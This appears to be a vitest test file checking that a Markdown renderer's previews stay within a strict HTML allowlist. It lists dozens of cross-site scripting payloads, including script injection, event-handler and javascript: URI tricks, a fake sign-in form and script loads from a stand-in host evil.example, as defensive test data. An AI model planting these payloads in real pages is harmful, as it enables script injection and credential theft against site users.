import { html } from "hono/html";
import { expect, test } from "vitest";
import { Markdown } from "../../src/surfaces/console/articles/markdown.tsx";
import { unescaped } from "../helpers/console.ts";

const render = async (text: string): Promise<string> =>
  html`${Markdown({ text, locale: "en", origin: "https://edgepress.test" })}`;

type Found = { readonly tag: string; readonly attributes: Readonly<Record<string, string>> };

/** What a parser of HTML makes of the page: its elements, and its text as it reads. */
async function parsed(page: string) {
  const elements: Found[] = [];
  const strange: string[] = [];
  let text = "";
  const rewriter = new HTMLRewriter()
    .on("*", {
      element: ({ tagName, attributes }) =>
        void elements.push({ tag: tagName, attributes: Object.fromEntries(attributes) }),
    })
    .onDocument({
      doctype: () => void strange.push("doctype"),
      comments: (comment) => void strange.push(`comment ${comment.text}`),
      text: (chunk) => void (text += chunk.text),
    });
  await rewriter.transform(new Response(page)).text();
  return { elements, strange, text: unescaped(text) };
}

/** Everything that a preview may hold; each attribute with the values that it may have. */
const ANY = /^/;
const PREFIXED = /^user-content-/;
const ALLOWED: Readonly<Record<string, Readonly<Record<string, RegExp>>>> = {
  ...Object.fromEntries(
    "h3 h4 h5 h6 blockquote hr br em strong del sup thead tbody tr details summary video source"
      .split(" ")
      .map((tag) => [tag, {}]),
  ),
  ...Object.fromEntries("h3 h4 h5 h6".split(" ").map((tag) => [tag, { id: PREFIXED }])),
  p: { title: ANY },
  details: { open: /^$/ },
  figure: {},
  figcaption: {},
  video: { controls: /^$/, preload: /^none$/ },
  a: {
    href: /^(?:https?:\/\/|mailto:|#user-content-|[^:]*$)/,
    title: ANY,
    target: /^_blank$/,
    rel: /^noopener noreferrer nofollow$/,
    id: PREFIXED,
    role: /^doc-(?:noteref|backlink)$/,
    "data-footnote-ref": ANY,
    "data-footnote-backref": ANY,
  },
  img: { src: /^https?:\/\//, alt: ANY, title: ANY, loading: /^lazy$/, referrerpolicy: /^no-referrer$/ },
  code: { class: /^(?:language-[\w+#.-]+)?$/ },
  pre: { tabindex: /^0$/ },
  input: { type: /^checkbox$/, disabled: /^$/, checked: /^$/, "aria-label": /^(?:Done|Not done)$/ },
  ul: { class: /^contains-task-list$/ },
  ol: { class: /^contains-task-list$/, start: /^\d+$/ },
  li: { class: /^task-list-item$/, id: PREFIXED },
  section: { "data-footnotes": ANY, class: /^footnotes$/, role: /^doc-endnotes$/ },
  table: {},
  th: { align: /^(?:left|center|right)$/ },
  td: { align: /^(?:left|center|right)$/ },
  span: { class: /^badge warn$/ },
  div: {
    class: /^(?:prose|scroll|gallery)$/,
    lang: /^en$/,
    dir: /^auto$/,
    role: /^group$/,
    tabindex: /^0$/,
    "aria-label": /^Table \d+$/,
  },
};

/** What a page holds beyond the allowlist. */
function excess({ elements, strange }: Awaited<ReturnType<typeof parsed>>): string[] {
  return strange.concat(
    elements.flatMap(({ tag, attributes }) => {
      const allowed = ALLOWED[tag];
      if (allowed === undefined) return [`<${tag}>`];
      const bad = Object.entries(attributes).filter(([name, value]) => !allowed[name]?.test(value));
      return bad.map(([name, value]) => `<${tag} ${name}="${value}">`);
    }),
  );
}

/** HTML within Markdown: all of it has to show as the text that it is. */
const HTML_VECTORS = [
  "<script>alert(1)</script>",
  "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
  "<scr<script>ipt>alert(1)</scr</script>ipt>",
  "Inline <script>alert(1)</script> script",
  '<img src=x onerror="alert(1)">',
  "Inline <img src=x onerror=alert(1)> image",
  "<img/src='x'/onerror='alert(1)'>",
  '<svg onload="alert(1)"></svg>',
  "<svg><script>alert(1)</script></svg>",
  "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<div style="background:url(javascript:alert(1));width:expression(alert(1))">x</div>',
  "<style>@import 'https://evil.example/x.css'; body{display:none}</style>",
  '<link rel="stylesheet" href="https://evil.example/x.css">',
  '<base href="https://evil.example/">',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<object data="javascript:alert(1)"></object>',
  '<embed src="javascript:alert(1)">',
  '<form action="https://evil.example/"><input name="_organization"><button>Sign in</button></form>',
  '<button formaction="javascript:alert(1)">x</button>',
  '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
  '<math><mtext><table><mglyph><style><img src=x onerror="alert(1)">',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<template><img src=x onerror="alert(1)"></template>',
  "<details open ontoggle=alert(1)>x</details>",
  "<video><source onerror=alert(1)></video>",
  "<body onload=alert(1)>",
  '<a href="javascript:alert(1)">x</a>',
  "<input autofocus onfocus=alert(1)>",
  "<marquee onstart=alert(1)>x</marquee>",
  "<xmp><script>alert(1)</script></xmp>",
  "<textarea></textarea><script>alert(1)</script>",
  "</div></section></main><script>alert(1)</script>",
  "<!-- a comment --><script>alert(1)</script>",
  "<!--><img src=x onerror=alert(1)>-->",
  "<![CDATA[<script>alert(1)</script>]]>",
  "<?php echo 1 ?>",
  "<!DOCTYPE html><script>alert(1)</script>",
  "<div>\n*nested* [x](javascript:alert(1))\n</div>",
  "> <script>alert(1)</script>",
  "- <img src=x onerror=alert(1)>",
  "| a |\n|---|\n| <img src=x onerror=alert(1)> |",
] as const;

test.each(HTML_VECTORS)("HTML is only what is allowed: %s", async (vector) => {
  expect(excess(await parsed(await render(vector)))).toEqual([]);
});

test.each([
  "<script>alert(1)</script>",
  "<form action='/x'>y</form>",
  "a <iframe src='https://evil.example'>b</iframe> c",
])("HTML that is not allowed shows as text: %s", async (vector) => {
  expect((await parsed(await render(vector))).text.trim()).toBe(vector);
});

/** Links and images: `text` has to be seen, `links` are the addresses that stay. */
const LINK_VECTORS: readonly { vector: string; text: string; links?: readonly string[] }[] = [
  { vector: "[click](javascript:alert(1))", text: "click" },
  { vector: "[click](JaVaScRiPt:alert(1))", text: "click" },
  { vector: "[click](&#106;avascript:alert(1))", text: "click" },
  { vector: "[click](javascript&colon;alert(1))", text: "click" },
  { vector: "[click](java&Tab;script:alert(1))", text: "click" },
  { vector: "[click](java&NewLine;script&colon;alert(1))", text: "click" },
  { vector: "[click](<java\tscript:alert(1)>)", text: "click" },
  { vector: "[click](<\u0001javascript:alert(1)>)", text: "click" },
  { vector: "[click](<  javascript:alert(1)>)", text: "click" },
  { vector: "[click](java\nscript:alert(1))", text: "[click](java\nscript:alert(1))" },
  { vector: "[click](data:text/html,<script>alert(1)</script>)", text: "click" },
  { vector: "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)", text: "click" },
  { vector: "[click](vbscript:msgbox(1))", text: "click" },
  { vector: "[click](file:///etc/passwd)", text: "click" },
  { vector: "[click](blob:https://edgepress.test/x)", text: "click" },
  { vector: "<javascript:alert(1)>", text: "javascript:alert(1)" },
  { vector: "<data:text/html,x>", text: "data:text/html,x" },
  { vector: "[click][ref]\n\n[ref]: javascript:alert(1)", text: "click" },
  { vector: "[click]\n\n[click]: <javascript:alert(1)> 'title'", text: "click" },
  { vector: "![picture](javascript:alert(1))", text: "picture" },
  { vector: "![picture](data:image/svg+xml,<svg/onload=alert(1)>)", text: "picture" },
  { vector: "![picture](/console/sign-out)", text: "picture" },
  { vector: "![picture](//evil.example/x.png)", text: "picture" },
  { vector: "[![picture](javascript:alert(1))](javascript:alert(2))", text: "picture" },
  {
    vector: `[click](https://example.com 'x" onmouseover="alert(1)')`,
    text: "click",
    links: ["https://example.com"],
  },
  {
    vector: '[click](https://example.com/"onmouseover="alert(1))',
    text: "click",
    links: ["https://example.com/%22onmouseover=%22alert(1)"],
  },
  { vector: "[click](https://example.com/<script>)", text: "click", links: ["https://example.com/%3Cscript%3E"] },
  { vector: "[click](#main)", text: "click", links: ["#user-content-main"] },
];

test.each(LINK_VECTORS)("an address does nothing but lead somewhere: $vector", async ({ vector, text, links = [] }) => {
  const page = await parsed(await render(vector));
  expect(excess(page)).toEqual([]);
  expect(page.text).toContain(text);
  expect(page.elements.flatMap(({ attributes }) => attributes["href"] ?? attributes["src"] ?? [])).toEqual(links);
});

test("an alternative text cannot leave its attribute", async () => {
  const page = await parsed(await render('![x" onerror="alert(1)](https://example.com/a.png)'));
  expect(excess(page)).toEqual([]);
  expect(page.elements.find(({ tag }) => tag === "img")?.attributes).toMatchObject({
    alt: expect.stringContaining("onerror") as unknown,
    src: "https://example.com/a.png",
  });
});

test("the language of a code block cannot become another class or attribute", async () => {
  const page = await parsed(await render('```js"onclick="alert(1)\nx\n```\n\n```button quiet\ny\n```'));
  expect(excess(page)).toEqual([]);
  expect(page.elements.filter(({ tag }) => tag === "code").map(({ attributes }) => attributes)).toEqual([
    {},
    { class: "language-button" },
  ]);
});

test("Markdown shows as what it is", async () => {
  const text =
    "*a* **b** ~~c~~ `d` [e](https://example.com) <https://example.org>\n\n> f\n\n1. g\n\n---\n\n```ts\nh\n```\n\n![i](https://example.com/i.png)";
  const page = await parsed(await render(text));
  expect(excess(page)).toEqual([]);
  const tags = page.elements.map(({ tag }) => tag);
  for (const tag of ["em", "strong", "del", "code", "a", "blockquote", "ol", "hr", "pre", "img"])
    expect(tags).toContain(tag);
  const links = page.elements.filter(({ tag }) => tag === "a");
  expect(links.map(({ attributes }) => attributes["href"])).toEqual(["https://example.com", "https://example.org"]);
});

test("headings nest below those of the page and leave out no level", async () => {
  const page = await parsed(await render("## A\n\n#### B\n\n# C\n\n## D\n\n### E\n\n#### F\n\n##### G\n\n#\n\n## H"));
  const headings = page.elements.map(({ tag }) => tag).filter((tag) => tag.startsWith("h"));
  expect(headings).toEqual(["h3", "h4", "h3", "h4", "h5", "h6", "h6", "h4"]);
});

test("the boxes of a task list have a name and cannot be changed", async () => {
  const page = await parsed(await render("- [x] written\n- [ ] translated"));
  expect(excess(page)).toEqual([]);
  expect(page.elements.filter(({ tag }) => tag === "input").map(({ attributes }) => attributes)).toEqual([
    { type: "checkbox", checked: "", disabled: "", "aria-label": "Done" },
    { type: "checkbox", disabled: "", "aria-label": "Not done" },
  ]);
});

test("footnotes lead to each other, under identifiers that are no others'", async () => {
  const page = await parsed(await render("Text.[^main]\n\n[^main]: The note."));
  expect(excess(page)).toEqual([]);
  const ids = page.elements.flatMap(({ attributes }) => attributes["id"] ?? []);
  const targets = page.elements.flatMap(({ attributes }) => attributes["href"]?.slice(1) ?? []);
  expect(ids).toHaveLength(2);
  expect(targets).toHaveLength(2);
  for (const target of targets) expect(ids).toContain(target);
});

test("columns keep their alignment without a style", async () => {
  const page = await parsed(await render("| a | b |\n|:-:|--:|\n| c | d |"));
  expect(excess(page)).toEqual([]);
  expect(page.elements.filter(({ tag }) => tag === "td").map(({ attributes }) => attributes["align"])).toEqual([
    "center",
    "right",
  ]);
});

test.each([
  ["nothing", ""],
  ["an article of 60,000 words", `${"word ".repeat(99)}word.\n\n`.repeat(600)],
  ["a long word", "a".repeat(300_000)],
  ["many quotes", "> a\nb\n\n".repeat(5000)],
])("all of a text is shown: %s", async (_, text) => {
  const page = await parsed(await render(text));
  expect(page.text.replaceAll(/\s/g, "")).toBe(text.replaceAll(/[\s>]/g, ""));
});

test.each([200, 600])("emphasis %i levels deep leaves a page with its text", async (depth) => {
  const page = await parsed(await render("*a ".repeat(depth) + "a* ".repeat(depth)));
  expect(excess(page)).toEqual([]);
  expect(page.text.match(/a/g)).toHaveLength(2 * depth);
});
